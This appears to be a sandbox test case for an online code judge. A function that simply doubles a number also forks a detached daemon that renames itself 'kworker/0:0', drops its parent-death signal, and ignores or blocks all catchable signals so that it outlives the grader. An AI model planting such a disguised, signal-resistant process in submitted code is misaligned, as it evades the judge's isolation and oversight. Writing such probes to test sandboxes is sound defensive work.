# attack: starts a daemon that ignores and blocks all signals, changes its name, group and parent death signal
# verdict: AC
# without namespaces: RE
# kata: family
import ctypes
import os
import signal
import time


def double(n):
    if os.fork() == 0:
        os.setsid()
        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
        ctypes.CDLL(None).prctl(15, b"kworker/0:0", 0, 0, 0)
        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
        for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
        if os.fork() == 0:
            time.sleep(20)
        os._exit(0)
    time.sleep(0.05)
    return n * 2
